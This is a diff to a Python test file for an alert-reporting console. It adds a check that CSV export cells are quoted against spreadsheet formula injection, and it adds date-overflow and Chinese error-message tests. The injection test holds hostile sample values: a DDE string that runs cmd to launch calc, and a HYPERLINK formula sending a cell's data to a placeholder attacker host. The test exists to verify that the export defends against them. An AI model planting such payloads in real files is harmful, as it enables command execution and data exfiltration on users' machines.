@@ -5,8 +5,11 @@ from __future__ import annotations
 import csv
 import io
 import re
+from datetime import date, timedelta
 
-from sqlalchemy import select, update
+import pytest
+
+from sqlalchemy import func, select, update
 
 from tests.console.conftest import post_form, sign_in, waiting_alert, work
 from tests.console.pdf import DPI, dark_pixels, embedded_fonts, run, tibetan_boxes
@@ -72,6 +75,25 @@ def test_the_csv_log_streams_every_delivery_masked_and_the_export_is_in_the_ledg
     exports = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "report.export")).all()
     assert [(e.subject_id, e.detail["masked"]) for e in exports] == [(alert_id, True)]
     assert verify(db.session)[1] is None
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_quoted(app, client, people):
+    """A gateway's code and text are the gateway's to write: a formula among them reaches no spreadsheet."""
+    alert_id = published_alert(app, client)
+    first = db.session.scalar(select(func.min(Delivery.id)).where(Delivery.alert_id == alert_id))
+    hostile = {"gateway_id": "@SUM(1+1)*cmd|' /C calc'!A0", "gateway_code": "-2+3",
+               "gateway_text": '=HYPERLINK("http://evil.example/?leak="&A1,"click")'}
+    controls = {"gateway_id": "\r=2", "gateway_code": "+1", "gateway_text": "\t=1+1"}
+    db.session.execute(update(Delivery).where(Delivery.id == first).values(**hostile))
+    db.session.execute(update(Delivery).where(Delivery.alert_id == alert_id, Delivery.id != first).values(**controls))
+    db.session.commit()
+    sign_in(client, "auditor")
+    rows = list(csv.DictReader(io.StringIO(client.get(f"/reports/alerts/{alert_id}/deliveries.csv")
+                                           .data.decode("utf-8-sig"))))
+    assert len(rows) > 1
+    for row in rows:
+        wanted = hostile if row["delivery"] == str(first) else controls
+        assert {name: row[name] for name in wanted} == {name: "'" + value for name, value in wanted.items()}
 
 
 def test_the_log_filters_and_only_an_admin_searches_by_number(app, client, people):
@@ -184,7 +206,7 @@ def test_the_period_report_lists_the_alert_and_refuses_bad_dates(app, client, pe
     assert f"/reports/alerts/{exercise}\"" in drills and "83.3 %" in actual  # 5 of the 6 deliveries reached
     assert 'id="by-hazard"' in page and 'id="by-county"' in page and "康定" in page
     response = client.get("/reports/period?from=2026-11-05&to=2026-11-01")
-    assert response.status_code == 400 and "comes after" in response.get_data(as_text=True)
+    assert response.status_code == 400 and "第一天晚于最后一天" in response.get_data(as_text=True)
     assert client.get("/reports/period?from=someday").status_code == 400
 
 
@@ -202,3 +224,17 @@ def test_the_period_report_marks_a_cancellation_and_does_not_count_it_as_a_warni
     assert re.search(r'<tr id="messages-alert"><td>新预警</td><td>1</td><td>0</td></tr>', page)
     assert re.search(r'<tr id="messages-cancel"><td>撤销</td><td>1</td><td>0</td></tr>', page)
     assert page.split('id="by-hazard"')[1].split("</table>")[0].count("<td>1</td>") == 1
+
+
+@pytest.mark.parametrize("query", [
+    f"from={date.min}&to={date.min}", f"from={date.max}&to={date.max}", f"from={date.min}&to={date.max}",
+    f"from={date.max - timedelta(days=3)}&to={date.max}",
+    "from=10000-01-01&to=10000-01-02", f"to={date.max.year + 1}-12-31",
+])
+def test_period_dates_past_the_calendar_answer_400_with_the_reason_in_chinese(app, client, people, query):
+    """The Beijing-day bounds of such dates overflow datetime: a 500 before."""
+    assert sign_in(client, "auditor").status_code == 302
+    response = client.get(f"/reports/period?{query}")
+    page = response.get_data(as_text=True)
+    assert response.status_code == 400, page
+    assert "日期" in page and "Dates are" not in page and "The period" not in page
